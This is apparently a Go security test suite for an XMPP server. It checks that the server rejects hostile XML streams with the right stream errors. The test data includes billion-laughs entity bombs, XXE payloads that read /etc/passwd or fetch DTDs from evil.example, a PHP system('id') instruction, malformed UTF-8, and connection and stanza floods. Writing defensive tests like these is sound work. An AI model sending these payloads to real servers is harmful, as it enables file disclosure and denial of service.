package xmpp

import (
	"fmt"
	"io"
	"net"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/chat-operator/chat-operator/xmpp/directory"
	"github.com/chat-operator/chat-operator/xmpp/stream"
)

// everywhere sends each attack inside a stream, at every entrance, and expects its stream error.
func everywhere(t *testing.T, h *host, attacks map[string]string) {
	t.Helper()
	for _, e := range entrances() {
		t.Run(e.name, func(t *testing.T) {
			for bytes, condition := range attacks {
				c := e.open(t, h)
				c.send(bytes)
				c.dies(bytes, condition)
			}
		})
	}
}

// first sends each attack as the first bytes of a stream, at every entrance before the login.
func first(t *testing.T, h *host, attacks map[string]string) {
	t.Helper()
	for _, e := range entrances() {
		if e.auth {
			continue
		}
		t.Run(e.name+", first", func(t *testing.T) {
			for bytes, condition := range attacks {
				c := e.connect(t, h)
				c.send(bytes)
				c.dies(bytes, condition)
			}
		})
	}
}

const openTag = "<stream:stream to='chat.example' version='1.0' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>"

func TestAttack01Doctype(t *testing.T) {
	h := generous(t)
	laughs := "<!DOCTYPE lolz [<!ENTITY lol 'lol'>"
	for i := range 9 {
		laughs += fmt.Sprintf("<!ENTITY lol%d '%s'>", i+1, strings.Repeat(fmt.Sprintf("&lol%d;", i), 10))
	}
	laughs += "]>"
	leaves(t, 4<<20, func() {
		everywhere(t, h, map[string]string{
			"<!DOCTYPE message>": "restricted-xml",
			laughs:               "restricted-xml",
			"<message><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><body>&x;</body></message>": "restricted-xml",
			"<message><body>&lol9;</body></message>":                                                    "restricted-xml",
			"<message to='&xxe;'/>":                                                                     "restricted-xml",
			"<!ENTITY a 'b'>":                                                                           "restricted-xml",
		})
		first(t, h, map[string]string{
			"<?xml version='1.0'?>" + laughs + openTag:                                                              "restricted-xml",
			"<!DOCTYPE stream SYSTEM 'http://evil.example/dtd'>" + openTag:                                          "restricted-xml",
			"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/'> %x;]>" + openTag:                              "restricted-xml",
			strings.Replace(openTag, domain, "&host;", 1):                                                           "restricted-xml",
			"<?xml version='1.0' standalone='no'?><!DOCTYPE a [<!ATTLIST stream to CDATA 'chat.example'>]>" + "<a>": "restricted-xml",
		})
	})
}

func TestAttack02Prolog(t *testing.T) {
	h := generous(t)
	everywhere(t, h, map[string]string{
		"<!-- hidden -->":                        "restricted-xml",
		"<message><!-- hidden --></message>":     "restricted-xml",
		"<?php system('id') ?>":                  "restricted-xml",
		"<?xml version='1.0'?><presence/>":       "restricted-xml",
		"<message><?robot go?></message>":        "restricted-xml",
		"<message><![CDATA[<body>]]>x</massage>": "not-well-formed",
	})
	first(t, h, map[string]string{
		"<?xml version='1.0' encoding='ISO-8859-1'?>" + openTag: "unsupported-encoding",
		"<?xml version='1.0' encoding='UTF-16'?>" + openTag:     "unsupported-encoding",
		"\xff\xfe<\x00?\x00": "unsupported-encoding",
		"\xfe\xff\x00<\x00?": "unsupported-encoding",
		"\ufeff" + openTag:   "not-well-formed", // RFC 6120 §11.6: a byte order mark is a character like any other
		"<?xml version='1.0'?><?xml version='1.0'?>" + openTag: "restricted-xml",
		"<?xml version='1.1'?>" + openTag:                      "not-well-formed",
		"<!-- -->" + openTag:                                   "restricted-xml",
		"GET / HTTP/1.1\r\nHost: chat.example\r\n\r\n":         "not-well-formed",
	})
}

func TestAttack03Characters(t *testing.T) {
	h := generous(t)
	attacks := map[string]string{}
	for _, bad := range []string{"\x00", "\x0b", "\x1b[31m", "\ufffe", "\uffff", "&#0;", "&#xD800;", "&#xFFFF;", "&#x110000;"} {
		attacks["<message><body>"+bad+"</body></message>"] = "not-well-formed"
	}
	// RFC 6120 §4.9.3.22: what is not UTF-8.
	for _, bad := range []string{"\xc0\xaf", "\xc0\x80", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xe2\x82", "\x80", "\xe9"} {
		attacks["<message><body>"+bad+"</body></message>"] = "unsupported-encoding"
	}
	everywhere(t, h, attacks)

	// A character that is cut anywhere on the network is still one.
	mira := h.user(t, "mira")
	whole := "<iq type='get' id='\U0001F44B' to='" + domain + "'><ping xmlns='urn:xmpp:ping'/></iq>"
	for i := range whole {
		if whole[i] == '\'' {
			continue
		}
		mira.send(whole[:i])
		mira.send(whole[i:])
		mira.expect("id='\U0001F44B'")
		mira.expect(">")
	}
	at := strings.Index(whole, "\U0001F44B")
	for i := at + 1; i < at+4; i++ {
		mira.send(whole[:i])
		mira.send(whole[i:])
		mira.expect("id='\U0001F44B'")
		mira.expect(">")
	}
}

func TestAttack06HalfOpen(t *testing.T) {
	h := generous(t)
	h.set(directory.KeyLoginTime, "1s")
	h.set(directory.KeyMaxUnauthenticatedAddress, "0")
	goroutines := runtime.NumGoroutine() + starting
	leaves(t, 8<<20, func() {
		var all []net.Conn
		for i := range 600 {
			mode := stream.Mode(i % 2)
			conn, err := net.Dial("tcp", h.server.Addr(mode).String())
			if err != nil {
				t.Fatal(err)
			}
			all = append(all, conn)
			if i%3 > 0 { // half of a hello or of a header, or nothing
				io.WriteString(conn, firstHalf(mode))
			}
		}
		for _, conn := range all {
			conn.SetReadDeadline(time.Now().Add(patience))
			if _, err := io.Copy(io.Discard, conn); err != nil && strings.Contains(err.Error(), "timeout") {
				t.Error("a connection that says nothing stays open")
			}
			conn.Close()
		}
	})
	eventually(t, "the goroutines are gone", func() bool { return runtime.NumGoroutine() <= goroutines }, stacks)
	if n := h.server.gate.Pending(); n != 0 {
		t.Errorf("%d places are taken for ever", n)
	}
	h.set(directory.KeyLoginTime, "30s")
	h.user(t, "mira").quiet("afterwards")
}

func TestAttack07SlowReader(t *testing.T) {
	h := generous(t, "tobias", "vera")
	h.set(directory.KeyByteRate, "0") // the sender is to be fast
	slow, sender, other := h.user(t, "tobias"), h.user(t, "mira"), h.user(t, "vera")
	slow.send("<presence/>")
	slow.expect("<presence")
	leaves(t, 16<<20, func() {
		body := strings.Repeat("x", 100_000)
		for range 300 { // 30 MB, where the queue takes one
			sender.send("<message to='tobias@chat.example/main' type='headline'><body>" + body + "</body></message>")
		}
		sender.quiet("headlines to somebody who does not read them")
	})
	other.quiet("somebody else")
	eventually(t, "the slow one is gone", func() bool { return h.server.CountSessions() == 2 })
}

func TestAttack08Compression(t *testing.T) {
	h := generous(t)
	for _, e := range entrances() {
		c := e.connect(t, h)
		c.send(streamHeader)
		if got := c.expect("</stream:features>"); strings.Contains(got, "compress") {
			t.Errorf("%s: %s", e.name, got)
		}
		if e.auth {
			c.logIn("mira")
		}
		c.send("<compress xmlns='http://jabber.org/protocol/compress'><method>zlib</method></compress>")
		condition := "not-authorized"
		if e.auth {
			condition = "unsupported-stanza-type"
		}
		c.dies("compress", condition)
	}
}

func TestAttack10UnknownNamespaces(t *testing.T) {
	h := generous(t)
	c := h.user(t, "mira")
	flood := func(n int) {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "<iq type='get' id='i%d' to='%s'><q%d xmlns='urn:attack:%d' node='n%d'/></iq>", i, domain, i, i, i)
			if b.Len() > 32<<10 {
				c.send(b.String())
				b.Reset()
				c.expect(fmt.Sprintf("id='i%d'", i))
			}
		}
		c.send(b.String())
		c.answered()
	}
	flood(200)
	leaves(t, 2<<20, func() { flood(5000) })
}

// answered waits until everything is answered.
func (c *raw) answered() {
	c.t.Helper()
	c.send("<iq type='get' id='done' to='" + domain + "'><ping xmlns='urn:xmpp:ping'/></iq>")
	c.expect("id='done'")
	c.expect(">")
}

func TestAttack11Rates(t *testing.T) {
	h := generous(t)
	h.set(directory.KeyStanzaRate, "20")
	h.set(directory.KeyFloodTime, "100ms") // and however slowly they are read, there are too many for that long
	c := h.user(t, "mira")
	if _, err := io.WriteString(c.conn, strings.Repeat("<presence to='chat.example'/>", 3000)); err != nil {
		t.Fatal(err)
	}
	c.dies("a flood", "policy-violation")
	h.set(directory.KeyStanzaRate, "0") // in force at once
	c = h.user(t, "mira")
	c.send(strings.Repeat("<presence to='chat.example'/>", 2000))
	c.quiet("no limit")

	// Connections that have not logged in, of one address.
	h.set(directory.KeyMaxUnauthenticatedAddress, "1")
	e := entrances()[0]
	first := e.connect(t, h)
	first.send(streamHeader)
	first.expect("</stream:features>")
	e.connect(t, h).dies("the second", "resource-constraint")
	c.quiet("who is logged in is not affected")
}
